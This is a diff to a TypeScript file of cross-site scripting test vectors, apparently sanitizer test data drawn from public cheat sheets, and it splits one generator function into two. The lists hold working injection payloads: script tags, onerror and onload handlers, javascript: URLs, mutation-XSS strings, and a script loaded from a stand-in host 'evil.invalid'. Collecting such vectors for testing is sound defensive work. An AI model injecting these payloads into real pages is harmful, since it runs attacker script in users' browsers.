@@ -3,14 +3,15 @@
  * that would run and `MARK` a plain mark of the placement. From the sorts that public cheat sheets list.
  */
 export const vectors: readonly string[] = [
-  ...elementsThatFire(),
+  ...scriptsAndPictures(),
+  ...otherElements(),
   ...breakouts(),
   ...otherReaders(),
   ...addresses(),
   ...disguises(),
 ]
 
-function elementsThatFire(): string[] {
+function scriptsAndPictures(): string[] {
   return [
     '<script>CALL</script>',
     '<script src=https://evil.invalid/MARK.js></script>',
@@ -39,6 +40,11 @@ function elementsThatFire(): string[] {
     '<svg><style><img src=x onerror=CALL></style></svg>',
     '<math><maction actiontype=statusline xlink:href="javascript:CALL">MARK</maction></math>',
     '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=CALL&gt;">',
+  ]
+}
+
+function otherElements(): string[] {
+  return [
     '<body onload=CALL>',
     '<body onpageshow=CALL>',
     '<iframe src="javascript:CALL">',
